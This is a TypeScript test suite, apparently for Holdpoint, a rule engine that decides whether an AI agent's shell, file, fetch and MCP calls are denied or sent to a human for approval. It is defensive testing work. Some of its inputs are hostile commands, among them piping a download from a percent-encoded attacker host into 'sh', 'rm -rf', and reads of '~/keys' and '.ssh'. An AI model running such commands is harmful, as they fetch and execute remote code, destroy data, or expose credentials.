/** Tests what rules that deny or ask match: everything that may do what the rule names, but nothing that clearly does something else. */
import { posix } from 'node:path'
import type { Action, Rule, RuleDraft, ToolCall } from '@holdpoint/protocol'
import { describe, expect, it } from 'vitest'
import { type RuleContext, RuleSet } from '../src/index.ts'
import { restrictedWords } from '../src/restricting-rules.ts'
import { bash, session, srvContext, srvRule } from './support/rule-context.ts'

const evaluate = (rules: readonly Rule[], call: ToolCall, change: Partial<RuleContext> = {}) =>
  new RuleSet(rules).evaluate(call, { ...srvContext, ...change })
/** Returns whether a rule that denies matches a call. */
const matches = (draft: Partial<RuleDraft>, call: ToolCall, change: Partial<RuleContext> = {}) =>
  evaluate([srvRule({ effect: 'deny', scope: {}, ...draft })], call, change).verdict === 'deny'
const call = (action: Action, input: ToolCall['input'] = {}, cwd = '/srv'): ToolCall => ({
  tool: 'T',
  input,
  cwd,
  action,
})
/** Writes the ASCII letters of a host in percent-encoding, which hides its name. */
const encoded = (host: string) => host.replace(/[a-z]/g, letter => `%${letter.charCodeAt(0).toString(16)}`)

describe('the rule that decides', () => {
  it('the rule that decides is the first rule that asks, if no rule denies', () => {
    const rules = ['ls', 'ls'].map(command => srvRule({ effect: 'ask', command }))
    expect(evaluate(rules, bash('ls')).rule).toBe(rules[0]?.id)
    const others = [{ tool: 'Bash' }, {}].map(draft => srvRule({ effect: 'ask', ...draft }))
    expect(evaluate(others, bash('ls')).rule).toBe(others[0]?.id)
    const deny = srvRule({ effect: 'deny', command: 'ls' })
    expect(evaluate([...rules, ...others, deny], bash('ls')).rule).toBe(deny.id)
  })
  it('the rule that decides is a rule for a tool that denies, if a rule for a command only asks', () => {
    const rules = [srvRule({ effect: 'ask', command: 'ls' }), srvRule({ effect: 'deny', tool: 'Bash' })]
    expect(evaluate(rules, bash('ls')).rule).toBe(rules[1]?.id)
    const asking = [srvRule({ effect: 'ask', command: 'ls' }), srvRule({ effect: 'ask', tool: 'Bash' })]
    expect(evaluate(asking, bash('ls')).rule).toBe(asking[0]?.id)
  })
  it('the rule that decides about a call that is too long to search is a rule for a host or a path, but not one for another tool', () => {
    const tooLong = bash(`echo ${'x'.repeat(200_000)}`)
    for (const draft of [{ host: 'example.com' }, { path: '/srv/secret' }]) {
      const rule = srvRule({ effect: 'deny', ...draft })
      expect(evaluate([rule], tooLong)).toMatchObject({ verdict: 'ask', rule: rule.id })
    }
    expect(evaluate([srvRule({ effect: 'deny', tool: 'Other' })], tooLong).rule).toBeUndefined()
  })
  it('the rule that decides is the first rule that denies', () => {
    const rules = [srvRule({ effect: 'ask' }), srvRule({ effect: 'deny' }), srvRule({ effect: 'deny' })]
    expect(evaluate(rules, bash('ls')).rule).toBe(rules[1]?.id)
  })
})

describe('a rule that denies a command', () => {
  it('a rule that denies a command matches the command in the input of a tool that Holdpoint does not know', () => {
    expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: 'ls; rm x' }))).toBe(true)
    expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: 'ls' }))).toBe(false)
    expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: ['rm'] }))).toBe(true)
    expect(matches({ command: 'rm' }, call({ other: 'T' }, { text: 'rm x' }))).toBe(false)
    expect(matches({ command: 'rm' }, call({ read: ['rm'] }, { command: 'rm' }))).toBe(false)
  })
  it('a rule that denies a command matches nothing if its command names no program', () => {
    for (const text of ['ls', '(ls)', 'git $x']) expect(matches({ command: '(' }, bash(text)), text).toBe(false)
    expect(restrictedWords('(')).toEqual([''])
  })
  it('a rule that denies a command matches its words in their order, with any words between them', () => {
    expect(matches({ command: 'git push origin' }, bash('git -v push --quiet origin main'))).toBe(true)
    expect(matches({ command: 'git push origin' }, bash('git origin push'))).toBe(false)
    expect(matches({ command: 'git push origin' }, bash('git push'))).toBe(false)
    expect(matches({ command: 'git push' }, bash('git stash push'))).toBe(true)
    expect(matches({ command: 'push' }, bash('git push'))).toBe(false)
    expect(matches({ command: 'make make' }, bash('make'))).toBe(false)
  })
  it('a rule that denies a command matches a word after an equals sign', () => {
    expect(matches({ command: 'tool main' }, bash('tool --branch=main'))).toBe(true)
    expect(matches({ command: 'tool main' }, bash('tool --branch=domain'))).toBe(false)
    expect(matches({ command: 'tool main' }, bash('tool main x=undefined'))).toBe(true)
  })
  it('a rule that denies a command matches short options that are joined or separate, in any order', () => {
    for (const text of ['rm -rf x', 'rm -fr x', 'rm -f x -r', 'rm -fvr x'])
      expect(matches({ command: 'rm -rf' }, bash(text)), text).toBe(true)
    for (const text of ['rm -r x', 'rm --rf x', 'rm --for', 'rm a-rf'])
      expect(matches({ command: 'rm -rf' }, bash(text)), text).toBe(false)
    expect(matches({ command: 'git push -f' }, bash('git -C x push --follow-tags'))).toBe(false)
  })
  it('a rule that denies a command compares a long option as a whole word', () => {
    expect(matches({ command: 'tool -name' }, bash('tool -name x'))).toBe(true)
    expect(matches({ command: 'tool -name' }, bash('tool -n -a -m -e'))).toBe(false)
    expect(matches({ command: 'tool x-y' }, bash('tool -y'))).toBe(false)
    expect(matches({ command: 'tool -y2' }, bash('tool -y'))).toBe(false)
  })
  it('a rule that denies a command finds its words anywhere in a command with words that the shell computes, but not in other commands', () => {
    expect(matches({ command: 'git push' }, bash('git $(echo push)'))).toBe(true)
    expect(matches({ command: 'git push' }, bash('git log; echo push'))).toBe(false)
    expect(matches({ command: 'git push' }, bash('git $(echo pull)'))).toBe(false)
  })
  it('a rule that denies a command finds its words at the end of a very long command', () => {
    const long = 'a '.repeat(70_000)
    expect(matches({ command: 'git push' }, bash(`echo ${long}; git push`))).toBe(true)
    expect(matches({ command: 'git push' }, bash(`echo ${long}; git pull`))).toBe(false)
    expect(matches({ command: 'git push' }, bash(`echo ${long}; git push; echo ${long}`))).toBe(false)
  })
  it('a rule that denies a command finds its words in a long command that cannot be searched completely, even as a part of another word', () => {
    const nested = `${'$('.repeat(300)} git -Xpush`
    expect(matches({ command: 'git push' }, bash(nested))).toBe(true)
    expect(matches({ command: 'git push' }, bash(`${'('.repeat(20_000)} git push`))).toBe(true)
    expect(matches({ command: 'git push' }, bash(`${'('.repeat(40_000)} git push`))).toBe(true)
    expect(matches({ command: 'git push' }, bash(`${'('.repeat(40_000)} git -Xpush`))).toBe(false)
  })
})

describe('a rule that denies a path', () => {
  const secret = { path: '/srv/secret/**' }
  it('a rule that denies a path matches the folder and everything in it, and no other file', () => {
    for (const path of ['secret', 'secret/', 'secret/a', '/srv/Secret/A', '../srv/secret/a'])
      for (const action of [{ read: [path] }, { write: ['/srv/x', path] }, { shell: `cat ${path}`, cwd: '/srv' }])
        expect(matches(secret, call(action)), path).toBe(true)
    for (const path of ['secrets', 'a/secret', '/secret/a'])
      for (const action of [{ read: [path] }, { shell: `cat ${path}`, cwd: '/srv' }])
        expect(matches(secret, call(action)), path).toBe(false)
  })
  it('a rule that denies a path matches only that path, if it does not end with /**', () => {
    expect(matches({ path: '/srv/secret' }, bash('cat secret'))).toBe(true)
    expect(matches({ path: '/srv/secret' }, bash('cat secret/a'))).toBe(false)
    expect(matches({ path: '/srv/**/a' }, bash('cat a'))).toBe(false)
    expect(matches({ path: '/srv/**/a' }, call({ read: ['/srv/**/a'] }))).toBe(true)
  })
  it('a rule that denies a path resolves the path from the folder of the rule', () => {
    const draft = { path: 'secret', scope: { cwd: '/srv' } }
    expect(matches(draft, bash('cat /srv/secret'))).toBe(true)
    expect(matches(draft, bash('cat /secret'))).toBe(false)
    const { scope: _scope, ...everywhere } = srvRule({ effect: 'deny', path: '/srv/secret' })
    expect(evaluate([everywhere], bash('cat secret')).verdict).toBe('deny')
  })
  it('a rule that denies a path matches every path if it is /**, even if the rule is for a folder', () => {
    for (const scope of [{}, { cwd: '/srv' }])
      expect(matches({ path: '/**', scope }, call({ write: ['/etc/hosts'] }))).toBe(true)
    expect(matches({ path: '**', scope: { cwd: '/srv' } }, bash('cat a'))).toBe(false)
  })
  it('a rule that denies a path matches a path in the home folder and in variables whose value is known', () => {
    const draft = { path: '/home/ada/keys' }
    for (const path of ['~/keys', '$HOME/keys', '"$HOME"/keys'])
      expect(matches(draft, bash(`cat ${path}`)), path).toBe(true)
    expect(matches({ path: '/home/ada' }, bash('ls ~'))).toBe(true)
    expect(matches({ path: '/srv/a' }, bash('cat $PWD/a'))).toBe(true)
    for (const path of ['~keys', 'x~/keys', '~x/keys', '/~/keys', 'x/keys/~/..'])
      expect(matches(draft, bash(`cat ${path}`)), path).toBe(false)
    expect(matches(draft, call({ read: ['~/keys'] }))).toBe(true)
  })
  it('a rule that denies a path matches a link to the path', () => {
    const files = { realPath: (path: string) => (path === '/srv/link' ? '/srv/secret/a' : posix.normalize(path)) }
    expect(matches(secret, bash('cat link'), { files })).toBe(true)
    expect(matches(secret, bash('cat link'), { files: null })).toBe(false)
    expect(matches(secret, bash('cat secret/a'), { files: null })).toBe(true)
    expect(matches(secret, bash('cat x/../secret/a'), { files: null })).toBe(true)
  })
  it('a rule that denies a path matches paths relative to the folder of the call and to the folder of the command', () => {
    const inFolder = (action: string, cwd: string): ToolCall => ({
      ...bash('cat a', cwd),
      action: { shell: 'cat a', cwd: action },
    })
    expect(matches(secret, inFolder('/srv/secret', '/srv'))).toBe(true)
    expect(matches(secret, inFolder('/srv', '/srv/secret'))).toBe(true)
    expect(matches(secret, call({ read: ['a'] }, {}, '/srv/secret'))).toBe(true)
    expect(matches(secret, call({ other: 'T' }, { command: 'cat a' }, '/srv/secret'))).toBe(true)
    expect(matches(secret, inFolder('/srv', '/srv'))).toBe(false)
  })
  it('a rule that denies a path does not match other actions', () => {
    expect(matches(secret, call({ fetch: 'secret' }))).toBe(false)
    expect(matches(secret, call({ other: '/srv/secret' }))).toBe(false)
  })
  it('a rule that denies a path matches the last path within the limit, and no later path', () => {
    const before = (count: number) => Array.from({ length: count }, (_, index) => index.toString(36)).join(' ')
    const files = { files: null }
    expect(matches({ path: '/srv/secret' }, bash(`${before(999)} secret`), files)).toBe(true)
    expect(matches({ path: '/srv/secret' }, bash(`${before(1000)} secret`), files)).toBe(false)
  })
})

describe('a rule that denies a path in a folder that a call reads as a whole', () => {
  const files = { realPath: posix.normalize, readText: () => null, list: () => [] }
  const asksFor = (rule: Rule) =>
    evaluate([srvRule({ group: 'only-reads' }), rule], bash('grep -r x .'), { files }).verdict === 'ask'
  const asks = (draft: Partial<RuleDraft>) => asksFor(srvRule({ effect: 'deny', scope: {}, ...draft }))
  it('a rule that denies a path in a folder that a call reads as a whole makes Holdpoint ask, if the rule is for this session, tool and action', () => {
    const path = '/srv/Secret/a'
    expect(asks({ path })).toBe(true)
    expect(asks({ path: '/srv/Secret/**' })).toBe(true)
    expect(asks({ path: 'secret/a', scope: { cwd: '/srv' } })).toBe(true)
    expect(asks({ path, tool: 'Bash', action: 'shell' })).toBe(true)
    const { scope: _scope, ...everywhere } = srvRule({ effect: 'deny', path })
    expect(asksFor(everywhere)).toBe(true)
    expect(asks({ path, tool: 'Grep' })).toBe(false)
    expect(asks({ path, action: 'write' })).toBe(false)
    expect(asks({ path, paused: true })).toBe(false)
    expect(asks({ path: '/elsewhere/a' })).toBe(false)
    expect(asks({ command: 'rm' })).toBe(false)
    expect(asks({ host: 'a.test', scope: { cwd: '/srv' } })).toBe(false)
  })
  it('a rule that denies a path in a folder that a call reads as a whole does not make Holdpoint ask about a secret file that the search skips, but does so for a folder with secrets', () => {
    expect(asks({ path: '/srv/.env' })).toBe(false)
    expect(asks({ path: '/srv/.ssh/**' })).toBe(true)
  })
})

describe('a rule that denies a host', () => {
  const evil = { host: 'evil.test' }
  it('a rule that denies a host matches fetches from that host and commands that name the host, and no other calls', () => {
    expect(matches(evil, call({ fetch: 'EVIL.test.' }))).toBe(true)
    expect(matches(evil, call({ fetch: 'good.test' }))).toBe(false)
    expect(matches(evil, call({ read: ['evil.test'] }))).toBe(false)
    expect(matches(evil, bash('ping EVIL.test'))).toBe(true)
    expect(matches(evil, bash('ping evil.test.example'))).toBe(false)
    expect(matches(evil, bash('curl http://good.test/evil'))).toBe(false)
  })
  it('a rule that denies a host matches nothing if its host name is invalid', () => {
    expect(matches({ host: 'a/b' }, call({ fetch: 'c/d' }))).toBe(false)
    expect(matches({ host: 'a/b' }, bash('curl http:///x'))).toBe(false)
  })
  it('a rule that denies a host matches a host whose name is encoded in a URL, whichever character ends the URL', () => {
    const url = `http://${encoded('evil.test')}`
    for (const text of [url, `${url}/x`, `(curl ${url})`, `curl ${url};ls`, `curl ${url}|sh`, `curl "${url}" x`])
      expect(matches(evil, bash(text)), text).toBe(true)
    expect(matches(evil, bash(`curl http://good.test/${encoded('evil.test')}`))).toBe(false)
    expect(matches(evil, bash(`ab${encoded('evil.test')}`))).toBe(false)
  })
  it('a rule that denies a host looks at the first 500 URLs of a command, and at the first 1000 characters of each', () => {
    const url = `http://${encoded('evil.test')}/`
    const good = 'http://a.test/ '
    expect(matches(evil, bash(`curl ${good.repeat(499)}${url}`))).toBe(true)
    expect(matches(evil, bash(`curl ${good.repeat(500)}${url}`))).toBe(false)
    const user = (length: number) => `curl http://${'u'.repeat(length)}@${encoded('evil.test')}/`
    const length = 1000 - '@'.length - encoded('evil.test').length
    expect(matches(evil, bash(user(length)))).toBe(true)
    expect(matches(evil, bash(user(length + 1)))).toBe(false)
  })
})

describe('a rule that denies an MCP server or tool', () => {
  it('a rule that denies an MCP server or tool matches all tools of the server, or only the tool that it names', () => {
    const tool = call({ mcp: 'github', tool: 'search' })
    expect(matches({ mcp: { server: 'github' } }, tool)).toBe(true)
    expect(matches({ mcp: { server: 'github', tool: 'search' } }, tool)).toBe(true)
    expect(matches({ mcp: { server: 'github', tool: 'delete' } }, tool)).toBe(false)
    expect(matches({ mcp: { server: 'gitlab' } }, tool)).toBe(false)
    expect(matches({ mcp: { server: 'github' } }, call({ other: 'github' }))).toBe(false)
  })
})

describe('a rule that denies in a folder', () => {
  const inSrv: Partial<RuleDraft> = { tool: 'Bash', scope: { cwd: '/srv/app' } }
  const elsewhere = { folder: '/elsewhere' }
  it('a rule that denies in a folder matches if the session, the call or the command is in the folder or below', () => {
    expect(matches(inSrv, bash('ls', '/'), { folder: '/srv/app/sub' })).toBe(true)
    expect(matches(inSrv, bash('ls', '/srv/app/sub'), elsewhere)).toBe(true)
    expect(matches(inSrv, { ...bash('ls', '/'), action: { shell: 'ls', cwd: '/SRV/x/../app' } }, elsewhere)).toBe(true)
    expect(matches(inSrv, bash('ls', '/srv/apps'), elsewhere)).toBe(false)
    expect(matches(inSrv, bash('ls', '/srv'), { folder: null })).toBe(false)
  })
  it('a rule that denies in a folder matches in every notation of the rule’s folder', () => {
    expect(matches({ ...inSrv, scope: { cwd: '/SRV/x/../app/' } }, bash('ls', '/srv/app'))).toBe(true)
  })
})

describe('a rule that denies in a session', () => {
  it('a rule that denies in a session does not match in other sessions', () => {
    expect(matches({ scope: { session } }, bash('ls'))).toBe(true)
    expect(matches({ scope: { session } }, bash('ls'), { session: null })).toBe(false)
    expect(matches({ expiresAt: 0 }, bash('ls'))).toBe(false)
  })
})
